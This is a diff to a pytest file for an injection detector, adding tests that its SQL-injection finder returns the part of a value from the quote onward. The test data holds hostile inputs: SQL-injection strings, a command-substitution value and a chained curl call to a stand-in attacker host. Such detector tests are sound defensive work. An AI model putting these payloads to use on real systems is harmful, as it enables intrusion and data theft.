@@ -2,6 +2,7 @@
 
 import pytest
 
+from worker.security.detect import sqli
 from worker.security.detect.table import DETECTORS, PROBE, Detectors
 
 SQL = [
@@ -518,3 +519,16 @@ def test_what_is_shown_to_people_is_a_warning_and_what_is_added_to_a_value_an_at
     added = [b"x`sleep 5`", b"127.0.0.1 && curl http://evil.example/", b"1 UNION SELECT b FROM t2"]
     assert [sum(one.score for one in detectors.findings(value)) for value in shown] == [3, 3, 3]
     assert [sum(one.score for one in detectors.findings(value)) for value in added] == [5, 5, 5]
+
+
+@pytest.mark.parametrize(
+    ("value", "part"),
+    [
+        (b"1' or 1=1--", b"' or 1=1--"),
+        (b'name" union select 1 from users', b'" union select 1 from users'),
+        (b"1 or 1=1", b"1 or 1=1"),
+        (b"O'Brien", None),
+    ],
+)
+def test_what_is_found_is_the_part_of_the_value_from_the_quote_on(value: bytes, part: bytes | None) -> None:
+    assert sqli.find(value) == part
